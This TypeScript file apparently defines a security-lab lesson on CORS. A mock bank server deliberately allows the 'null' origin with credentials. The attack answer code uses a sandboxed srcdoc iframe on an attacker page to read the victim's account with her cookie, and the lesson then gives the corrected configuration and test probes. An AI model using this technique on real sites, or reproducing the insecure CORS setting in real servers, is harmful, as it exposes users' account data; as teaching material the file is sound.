import { documentOf } from '@/lib/document/document-of.ts'
import { attackLab, getsNothing } from '@/lib/lessons/attack-lab.ts'

const API = 'https://api.bank.example'

/** Whoever has Sara's cookie reads her account. */
export const READ = `const response = await fetch("https://api.bank.example/account", {
  credentials: "include",
});
console.log(await response.text());
`
const AS_APP = `const response = await fetch("https://api.bank.example/account", {
  headers: { Authorization: "Bearer 7b21" },
});
console.log(await response.text());
`

export const OPEN = 'app.use(cors({ origin: ["https://bank.example", "null"], credentials: true }))'
export const MENDED = `app.use(cors((req, done) => {
  if (req.get("origin") === "null") done(null, { origin: "null" })
  else done(null, { origin: "https://bank.example", credentials: true })
}))`

/** `null` is allowed for an app that is a file; it has a token, and needs no cookie. */
export const noOrigin = attackLab({
  start: documentOf({
    page: 'https://evil.test/',
    stranger: { wants: 'Sara has 1204', whose: 'Sara' },
    code: READ,
    servers: {
      [API]: {
        dialect: 'express',
        text: `import express from "express"
import cors from "cors"

const app = express()

// the page of the bank, and its app for phones, whose pages are files
${OPEN}

app.get("/account", (req, res) => {
  const page = req.get("cookie")?.includes("session=sara")
  const phone = req.get("authorization") === "Bearer 7b21"
  if (!page && !phone) return res.status(401).send("Log in first.")
  res.send("Sara has 1204 euros.")
})

app.listen(443)
`,
      },
    },
    cookies: { [API]: 'session=sara' },
  }),
  attack: {
    id: 'attack-without-an-origin',
    title: 'Attack: without an origin',
    task: 'Sara is logged in at her bank, and opens your page. The bank’s server is in the lab. Read her account.',
    hints: [
      'The server allows two origins. Can a page of yours have one of them?',
      'A frame in your page is a document of its own. In a sandbox its origin is null, and srcdoc contains its HTML.',
      'Make an iframe with sandbox = "allow-scripts" and srcdoc = `<script type="module">…</script>`. Put the call into that script, and append the frame to document.body.',
    ],
    code: `const frame = document.createElement("iframe");
frame.sandbox = "allow-scripts";
frame.srcdoc = \`<script type="module">
  const response = await fetch("https://api.bank.example/account", {
    credentials: "include",
  });
  console.log(await response.text());
</script>\`;
document.body.append(frame);
`,
  },
  mend: {
    id: 'mend-without-an-origin',
    title: 'Mend: an app that is a file',
    task: 'The app for phones still needs this answer, and its origin is null. It sends a token and no cookie. Mend the server: the page of the bank reads with its cookie, the app with its token, and a stranger’s frame gets nothing.',
    hints: [
      'Who has to send a cookie: the app, or the page of the bank?',
      'Allow null, but without credentials. Then a browser gives no answer to a script that asked with cookies. cors takes a function: cors((req, done) => done(null, options)).',
      'if (req.get("origin") === "null") done(null, { origin: "null" }), else done(null, { origin: "https://bank.example", credentials: true })',
    ],
    servers: { [API]: [[OPEN, MENDED]] },
    tooLoose: { [API]: [[OPEN, 'app.use(cors({ origin: true, credentials: true }))']] },
    probes: [
      {
        says: 'https://bank.example reads the account, with the cookie.',
        page: { url: 'https://bank.example/' },
        code: READ,
        expect: { outcome: 'readable', contains: 'Sara has 1204', cookieSent: true },
      },
      {
        says: 'The app, which is a file, reads it with its token.',
        page: { url: 'file:///android_asset/www/index.html' },
        code: AS_APP,
        expect: { outcome: 'readable', contains: 'Sara has 1204' },
      },
      getsNothing('https://evil.test itself gets nothing.', { url: 'https://evil.test/' }, { code: READ }),
      getsNothing(
        'So does a frame there that asks without the cookie.',
        { url: 'https://evil.test/', opaque: true },
        { code: READ.replace('"include"', '"omit"') },
      ),
      getsNothing('So does https://evilbank.example.', { url: 'https://evilbank.example/' }, { code: READ }),
      getsNothing('So does http://bank.example.', { url: 'http://bank.example/' }, { code: READ }),
    ],
  },
})
